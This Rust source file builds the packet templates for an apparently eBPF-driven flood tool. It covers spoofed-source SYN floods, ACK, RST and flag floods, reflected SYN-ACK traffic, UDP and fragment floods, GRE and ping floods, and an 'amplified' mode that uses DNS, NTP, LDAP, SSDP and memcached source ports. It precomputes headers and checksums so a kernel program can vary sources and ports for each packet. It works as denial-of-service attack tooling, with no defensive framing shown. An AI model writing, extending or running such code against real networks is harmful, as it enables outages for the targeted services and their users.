//! The one frame that a flood is made of, with nothing in what the program fills in.

use crate::options::{Kind, Options};

const ETHERNET: usize = 14;
const TRANSPORT: usize = ETHERNET + 20;
const TCP: u8 = 6;
const UDP: u8 = 17;
const FIN: u8 = 1;
const SYN: u8 = 2;
const RST: u8 = 4;
const ACK: u8 = 16;

/// So many eight bytes of a frame are written again for each packet.
const HEADERS: usize = 16;

/// Mirrors `struct job` of flood.bpf.c.
#[repr(C)]
#[derive(Clone, Copy, Default, Debug)]
pub struct Job {
    pub interface: u32,
    pub sources_first: u32,
    pub sources_count: u32,
    pub from_first: u16,
    pub from_count: u16,
    pub to_first: u16,
    pub to_count: u16,
    pub transport: u16,
    pub checksum: u16,
    pub ip_sum: u32,
    pub transport_sum: u32,
    pub vary_seq: u16,
    pub vary_ack: u16,
    pub vary_flags: u16,
    pub unused: u16,
    pub begins: [u64; HEADERS],
}

/// MSS, SACK, timestamps, window scale: as a real client's SYN has them.
const OPTIONS: [u8; 20] = [2, 4, 5, 0xB4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7];

pub fn template(options: &Options) -> (Vec<u8>, Job) {
    let (protocol, transport) = match options.kind {
        Kind::SpoofedSyn => (TCP, tcp(SYN, &OPTIONS)),
        Kind::FixedSyn => (TCP, tcp(SYN, &[])),
        Kind::Ack => (TCP, tcp(ACK, &[])),
        Kind::Rst => (TCP, tcp(RST, &[])),
        Kind::Flags => (TCP, tcp(FIN, &[])),
        Kind::Reflected => (TCP, tcp(SYN | ACK, &OPTIONS[..4])),
        Kind::Amplified => (UDP, udp(512)),
        Kind::Udp => (UDP, udp(64)),
        Kind::Fragments => (UDP, vec![0xAB; 64]),
        Kind::Gre => (47, [&[0, 0, 8, 0][..], &[0x45; 60]].concat()),
        Kind::Ping => (1, [&[8, 0, 0xF7, 0xFF][..], &[0; 60]].concat()),
    };
    let is_tcp = protocol == TCP;
    let has_ports = matches!(protocol, TCP | UDP) && options.kind != Kind::Fragments;
    let mut frame = [&options.to_mac[..], &options.from_mac, &[8, 0]].concat();
    let total = (20 + transport.len()) as u16;
    let offset = if options.kind == Kind::Fragments { 100u16 } else { 0 };
    frame.extend([0x45, 0]);
    frame.extend(total.to_be_bytes());
    frame.extend([0, 0]); // identification
    frame.extend(offset.to_be_bytes());
    frame.extend([61, protocol, 0, 0, 0, 0, 0, 0]);
    frame.extend(options.to.ip().octets());
    let ip_sum = sum(&frame[ETHERNET..]);
    let pseudo = sum(&options.to.ip().octets()) + u32::from(protocol) + transport.len() as u32;
    let transport_sum = pseudo + sum(&transport);
    frame.extend(&transport);
    frame.resize(frame.len().next_multiple_of(8), 0); // behind the end of the IP packet, as a card pads
    let mut begins = [0; HEADERS];
    for (word, bytes) in begins.iter_mut().zip(frame.chunks_exact(8)) {
        *word = u64::from_ne_bytes(bytes.try_into().expect("eight bytes"));
    }
    let (from_first, from_count) = match options.kind {
        Kind::Reflected => (443, 1),
        Kind::Amplified => ([53, 123, 389, 1900, 11211][options.to.port() as usize % 5], 1),
        _ => (1024, 60_000),
    };
    let job = Job {
        interface: options.interface,
        sources_first: *options.sources.start(),
        sources_count: options.sources.end() - options.sources.start() + 1,
        from_first,
        from_count,
        to_first: options.to.port(),
        to_count: options.to_ports,
        transport: if has_ports { TRANSPORT as u16 } else { 0 },
        checksum: TRANSPORT as u16 + if is_tcp { 16 } else { 6 },
        ip_sum,
        transport_sum,
        vary_seq: u16::from(is_tcp),
        vary_ack: u16::from(is_tcp && !matches!(options.kind, Kind::SpoofedSyn | Kind::FixedSyn)),
        vary_flags: u16::from(options.kind == Kind::Flags),
        unused: 0,
        begins,
    };
    (frame, job)
}

fn tcp(flags: u8, more: &[u8]) -> Vec<u8> {
    // Where the flags vary, the word that they are in is left to the program.
    let word = if flags == FIN { [0, 0] } else { [((20 + more.len()) as u8 / 4) << 4, flags] };
    [&[0; 12][..], &word, &[0xFA, 0xF0, 0, 0, 0, 0], more].concat()
}

fn udp(payload: usize) -> Vec<u8> {
    let length = (8 + payload as u16).to_be_bytes();
    [&[0, 0, 0, 0, length[0], length[1], 0, 0][..], &vec![0x5A; payload]].concat()
}

/// Of 16-bit words, not folded.
fn sum(bytes: &[u8]) -> u32 {
    bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]))).sum()
}
